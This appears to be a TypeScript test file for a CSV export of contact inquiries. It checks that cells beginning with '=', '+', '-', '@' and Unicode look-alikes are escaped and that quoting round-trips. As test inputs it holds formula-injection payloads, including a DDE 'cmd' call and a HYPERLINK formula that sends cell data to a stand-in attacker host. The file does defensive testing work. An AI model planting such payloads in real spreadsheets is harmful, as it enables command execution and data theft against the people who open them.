import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvOf } from '#infra/inquiries/csv.ts';
import { character } from '#test/support/character.ts';
import { reading, recordOf, written } from './records.ts';

/** What a spreadsheet makes of a cell: the text between the quotes. */
const content = (cell: string) => cell.slice(1, -1).replaceAll('""', '"');

/** Reads CSV as RFC 4180 defines it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('a cell', () => {
  const starts = [
    ...'=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−',
    ' =',
    '\u00a0=',
    '\u3000＝',
    '\u200b=',
    '\ufeff+',
    '\u0000=',
    ' \t @',
  ];
  const text = fc.string({ unit: character });

  it.each(starts)('is no formula when it begins with %j', (start) => {
    expect(csvCell(`${start}cmd|' /C calc'!A0`)).toMatch(/^"'/);
  });

  it('never begins as a formula does, and holds all of the text', () => {
    const anything = fc.tuple(fc.constantFrom('', ...starts), text).map(([start, rest]) => start + rest);
    fc.assert(
      fc.property(anything, (typed) => {
        const shown = content(csvCell(typed));
        expect(shown.normalize('NFKC').trimStart()).not.toMatch(/^[=+\-@\u2212]/);
        expect(shown).not.toMatch(/^[\t\r\n]/);
        expect([typed, `'${typed}`]).toContain(shown);
      }),
      { numRuns: 1000 },
    );
  });

  it('is text for a spreadsheet, in 300 formulas however they begin', () => {
    const calls = [
      '1+1',
      "cmd|' /C calc'!A0",
      'HYPERLINK("https://evil.example?"&A1)',
      'SUM(A1:A9)*2',
      '"x"',
      'A1',
    ];
    const formulas = starts.flatMap((start) =>
      calls.flatMap((called) => [`${start}${called}`, `${start}${called}\n=2`, `${start}${called}\t-1`]),
    );
    expect(new Set(formulas).size).toBeGreaterThanOrEqual(300);
    for (const formula of formulas) expect(csvCell(formula)).toMatch(/^"'.*"$/s);
    expect(formulas.map((formula) => content(csvCell(formula)).slice(1))).toEqual(formulas);
  });

  it('is left alone when it is no formula', () => {
    for (const plain of ["O'Neill", 'a=b', '1-2', 'x@example.com', '', '你好', '🙂 +1']) {
      expect(content(csvCell(plain))).toBe(plain);
    }
  });

  it('keeps every digit of a phone number, and its plus, as text', () => {
    expect(csvCell('+12015550123')).toBe(`"'+12015550123"`);
  });
});

describe('the file', () => {
  it('begins with a byte order mark and a header, and ends every row with CRLF', async () => {
    const text = await written(csvOf(reading([recordOf()])));
    expect(text).toBe(
      '\ufeff"id","receivedAt","name","email","phoneNumber","comment","suspect"\r\n' +
        `"iAbc","2026-11-21T09:06:00.123Z","Asha","asha@example.com","'+919876543210","Hello",""\r\n`,
    );
  });

  it('says in its last column why an inquiry is suspicious', async () => {
    const text = await written(csvOf(reading([recordOf({ suspect: ['links', 'name'] })])));
    expect(text).toMatch(/"Hello","links name"\r\n$/);
  });

  it('gives back whatever was typed, however it is quoted', async () => {
    const typed = fc.string({ unit: fc.constantFrom(...'",;\n\r\t=é🙂', '\r\n', '","') });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ name: typed, comment: typed }), { maxLength: 5 }),
        async (all) => {
          const text = await written(csvOf(reading(all.map(recordOf))));
          const rows = parseCsv(text.slice(1)).slice(1);
          const read = rows.map(([, , name, , , comment]) => ({ name, comment }));
          const shown = (value: string) => content(csvCell(value));
          expect(read).toEqual(
            all.map(({ name, comment }) => ({ name: shown(name), comment: shown(comment) })),
          );
        },
      ),
    );
  });
});
